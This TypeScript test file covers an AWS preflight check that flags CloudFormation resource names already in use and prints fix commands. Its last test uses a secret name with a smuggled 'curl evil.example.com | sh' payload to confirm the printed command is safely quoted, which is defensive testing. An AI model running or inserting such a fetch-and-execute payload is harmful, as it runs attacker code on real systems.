import type { GetTrailCommandOutput } from '@aws-sdk/client-cloudtrail';
import type {
  DescribeLogGroupsCommandOutput,
  DescribeResourcePoliciesCommandOutput,
} from '@aws-sdk/client-cloudwatch-logs';
import type { DescribeSecretCommandOutput } from '@aws-sdk/client-secrets-manager';
import { existingNames } from '../../../../bin/preflight/checks/existing-names';
import { awsError, findingsOf, META, verdicts } from '../fake-account';

const Resources = {
  Trail: { Type: 'AWS::CloudTrail::Trail', Properties: { TrailName: 'Support-Trail' } },
  Logs: { Type: 'AWS::Logs::LogGroup', Properties: { LogGroupName: '/aws/vendedlogs/support' } },
  Policy: { Type: 'AWS::Logs::ResourcePolicy', Properties: { PolicyName: 'Support-Refused' } },
  Secret: { Type: 'AWS::SecretsManager::Secret', Properties: { Name: 'tickets-api' } },
  Unnamed: { Type: 'AWS::SecretsManager::Secret', Properties: {} },
};

/** A prefix also finds longer names: https://docs.aws.amazon.com/AmazonCloudWatchLogs/latest/APIReference/API_DescribeLogGroups.html */
const policies = (...names: string[]) =>
  ({
    ...META,
    resourcePolicies: names.map((policyName) => ({ policyName })),
  }) satisfies DescribeResourcePoliciesCommandOutput;
const groups = (...names: string[]) =>
  ({ ...META, logGroups: names.map((logGroupName) => ({ logGroupName })) }) satisfies DescribeLogGroupsCommandOutput;

test('all names are free', async () => {
  const answers = {
    GetTrailCommand: awsError('TrailNotFoundException'),
    DescribeLogGroupsCommand: groups('/aws/vendedlogs/support-old'),
    DescribeResourcePoliciesCommand: policies('other'),
    DescribeSecretCommand: awsError('ResourceNotFoundException'),
  };
  expect((await findingsOf(existingNames, { Resources }, answers)).map(({ verdict }) => verdict)).toEqual([
    'ready',
    'ready',
    'ready',
    'ready',
  ]);
});

test('names that an earlier stack left behind', async () => {
  const answers = {
    // https://docs.aws.amazon.com/awscloudtrail/latest/APIReference/API_GetTrail.html
    GetTrailCommand: {
      ...META,
      Trail: { Name: 'Support-Trail', HomeRegion: 'eu-west-1' },
    } satisfies GetTrailCommandOutput,
    DescribeLogGroupsCommand: groups('/aws/vendedlogs/support'),
    DescribeResourcePoliciesCommand: policies('other', 'Support-Refused'),
    // https://docs.aws.amazon.com/secretsmanager/latest/apireference/API_DescribeSecret.html: scheduled for deletion
    DescribeSecretCommand: {
      ...META,
      Name: 'tickets-api',
      DeletedDate: new Date(0),
    } satisfies DescribeSecretCommandOutput,
  };
  const findings = await findingsOf(existingNames, { Resources }, answers);
  expect(verdicts(findings)).toEqual([
    'blocked: AWS::CloudTrail::Trail Support-Trail exists, and no stack of these templates owns it',
    'blocked: AWS::Logs::LogGroup /aws/vendedlogs/support exists, and no stack of these templates owns it',
    'blocked: AWS::Logs::ResourcePolicy Support-Refused exists, and no stack of these templates owns it',
    'blocked: AWS::SecretsManager::Secret tickets-api exists, and no stack of these templates owns it',
  ]);
  expect(findings.at(0)?.fix).toContain('aws cloudtrail delete-trail --name Support-Trail');
});

test('what the stack owns already isn’t asked for', async () => {
  const deployed = { Trail: 'arn', Logs: 'group', Policy: 'Support-Refused', Secret: 'arn' };
  expect(await findingsOf(existingNames, { Resources }, {}, { deployed })).toEqual([]);
});

test('names of Network Firewall can’t be asked: the command is printed', async () => {
  const Firewall = { Type: 'AWS::NetworkFirewall::Firewall', Properties: { FirewallName: 'Support-Egress' } };
  expect(await findingsOf(existingNames, { Resources: { Firewall } }, {})).toEqual([
    {
      verdict: 'note',
      text: "whether AWS::NetworkFirewall::Firewall Support-Egress exists wasn't asked",
      fix: expect.stringContaining('aws network-firewall describe-firewall --firewall-name Support-Egress'),
    },
  ]);
});

test('a name from a template can’t add a command to the one that is printed', async () => {
  const Properties = { Name: "x; curl evil.example.com | sh #'" };
  const answers = { DescribeSecretCommand: { ...META, Name: 'x' } satisfies DescribeSecretCommandOutput };
  const body = { Resources: { Secret: { Type: 'AWS::SecretsManager::Secret', Properties } } };
  const [finding] = await findingsOf(existingNames, body, answers);
  expect(finding?.fix).toMatch(/ --secret-id 'x; curl evil\.example\.com \| sh #'\\'''$/);
});
